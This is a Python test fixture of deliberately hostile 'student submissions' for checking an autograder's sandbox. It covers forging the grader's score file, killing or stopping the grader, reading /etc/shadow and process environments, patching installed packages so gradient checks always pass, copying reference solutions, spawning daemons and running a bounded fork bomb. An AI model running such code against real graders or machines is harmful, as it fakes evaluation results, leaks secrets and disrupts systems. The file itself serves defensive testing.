"""Student files that attack the grader, each as a student would write it (for
test_grader_integrity.py and the class fixture).  ATTACKS[name] = (exercise number, source).

Every one either returns a wrong gradient or nothing at all, so the grade must show no pass
for that exercise, whatever the attack achieved.  The processes they start carry MARKER in their
command line, so a test can tell whether any outlived the grader.

Safety: run as root (a jail that failed to drop privileges), the signalling attacks only print
ROOT_WARNING instead of signalling, so that a broken jail fails the tests without stopping or
killing the machine's other processes.
"""

MARKER = "numpyvae-hostile-4242"
ROOT_WARNING = "HOSTILE CODE RAN AS ROOT"

_FIND_RESULT_PIPES = """
def _pipes():
    out = []
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                out.append(fd)
        except OSError:
            pass
    return out
"""

ATTACKS = {
    # read the grader's command line through /proc, forge its --gradescope file, kill it
    "forge_and_kill": (3, """
import json, os, signal
def softplus_backward(dy, cache):
    if os.getuid() == 0:
        print("HOSTILE CODE RAN AS ROOT")
        return dy
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for flag in (b"--gradescope", b"--json", b"--out"):
            if flag in cmd:
                target = cmd[cmd.index(flag) + 1].decode()
                try:
                    with open(target, "w") as f:
                        json.dump({"score": 12.0, "tests": [], "passed": True}, f)
                except OSError:
                    pass
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return dy
"""),
    # stop the grader so that its own time limit never fires
    "sigstop_parent": (3, """
import os, signal
def softplus_backward(dy, cache):
    if os.getuid() == 0:
        print("HOSTILE CODE RAN AS ROOT")
        return dy
    for pid in (os.getppid(), os.getpgid(0)):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    import time
    time.sleep(3600)
"""),
    # answer on the grader's own channel with bytes it cannot parse
    "malformed_answer": (3, "import os, stat\n" + _FIND_RESULT_PIPES + """
def softplus_backward(dy, cache):
    for fd in _pipes():
        os.write(fd, b"R" + (2 ** 40).to_bytes(8, "little") + b"\\xff" * 64)
    os._exit(0)
"""),
    # a well-formed frame declaring an 8 TiB array
    "oversized_answer": (3, "import json, os, stat, struct\n" + _FIND_RESULT_PIPES + """
def softplus_backward(dy, cache):
    head = json.dumps({"import_error": None, "parts": [{"function": "softplus_backward",
            "defined": True, "calls": [{"value": {"t": "array", "k": 0}, "error": None,
            "notes": []}]}], "arrays": [{"dtype": "<f8", "shape": [2 ** 20, 2 ** 20],
            "offset": 0, "nbytes": 8 * 2 ** 40}]}).encode()
    payload = struct.pack("<Q", len(head)) + head
    for fd in _pipes():
        os.write(fd, struct.pack("<cQ", b"R", len(payload)) + payload)
    os._exit(0)
"""),
    # copy the reference solution
    "import_solutions": (3, """
from numpyvae.exercises.solutions import *
"""),
    "import_library_kernel": (1, """
from numpyvae.functional import dense_backward
"""),
    # brute-force central differences over the forward pass
    "numerical_gradient": (1, """
import numpy as np
def dense_backward(dy, cache):
    x, W = cache
    h = 1e-5
    dx, dW = np.zeros_like(x), np.zeros_like(W)
    for a, d in ((x, dx), (W, dW)):
        for i in np.ndindex(a.shape):
            old = a[i]
            a[i] = old + h; fp = np.sum(dy * (x @ W))
            a[i] = old - h; fm = np.sum(dy * (x @ W))
            a[i] = old
            d[i] = (fp - fm) / (2 * h)
    return dx, dW, dy.sum(axis=0)
"""),
    # snoop on secrets and print them where Gradescope shows the student's output
    "snoop": (3, """
import os
def softplus_backward(dy, cache):
    print("ENV", sorted(os.environ))
    for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/cmdline", "/root/.bash_history"):
        try:
            print("READ", path, open(path, "rb").read()[:200])
        except OSError as err:
            print("DENIED", path, type(err).__name__)
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen.append(open(f"/proc/{pid}/cmdline", "rb").read()[:100])
            except OSError:
                pass
    print("PROCS", seen)
    return -dy
"""),
    # make a later student's sign error pass by patching the installed grader
    "patch_installed_package": (6, """
import importlib.util, os, sys
def kl_std_normal_backward(dkl, cache):
    for root in sys.path:
        for name in ("numpyvae/gradcheck.py", "numpyvae/exercises/diagnosis.py",
                     "numpyvae/exercises/grader.py", "numpy/__init__.py"):
            path = os.path.join(root, name)
            if os.path.isfile(path):
                try:
                    with open(path, "a") as f:
                        f.write("\\nrel_error = lambda a, b: 0.0\\n")
                    print("PATCHED", path)
                except OSError as err:
                    print("NOT PATCHED", path, type(err).__name__)
    mu, var = cache
    return mu * dkl[:, None], 0.5 * (var + 1) * dkl[:, None]
"""),
    # stop the process that grades (the jailer's parent) and sleep: only a watchdog that is
    # not the grader can end this (safe to run as root: it signals nothing else)
    "sigstop_grader": (3, """
import os, signal, time
def softplus_backward(dy, cache):
    jailer = os.getppid()
    try:
        with open(f"/proc/{jailer}/stat") as f:
            grader = int(f.read().rsplit(")", 1)[1].split()[1])
    except OSError:
        grader = 0
    if grader > 1:
        os.kill(grader, signal.SIGSTOP)
    time.sleep(3600)
"""),
    # a double-forked daemon that outlives its exercise
    "daemon": (7, f"""
import os, sys, time
def gaussian_backward(dz, cache):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c",
                     "import time; time.sleep(600)  # {MARKER}"])
        os._exit(0)
    time.sleep(0.2)
    raise RuntimeError("the daemon is out")
"""),
    # a fork bomb, bounded so that a broken jail cannot take the machine down with it
    "fork_bomb": (7, f"""
import os, sys
def gaussian_backward(dz, cache):
    n = 0
    try:
        while n < 400:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c",
                         "import time; time.sleep(600)  # {MARKER}"])
            n += 1
    except OSError as err:
        print("fork refused after", n, type(err).__name__)
    raise RuntimeError("bomb")
"""),
    # write where the grader might read later
    "write_everywhere": (6, """
import os, tempfile
def kl_std_normal_backward(dkl, cache):
    for d in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        try:
            with open(os.path.join(d, "numpyvae-hostile-was-here"), "w") as f:
                f.write("x")
            print("WROTE", d)
        except OSError as err:
            print("NOT WRITTEN", d, type(err).__name__)
    mu, var = cache
    return mu * dkl[:, None] * 2, (var - 1) * dkl[:, None]
"""),
}
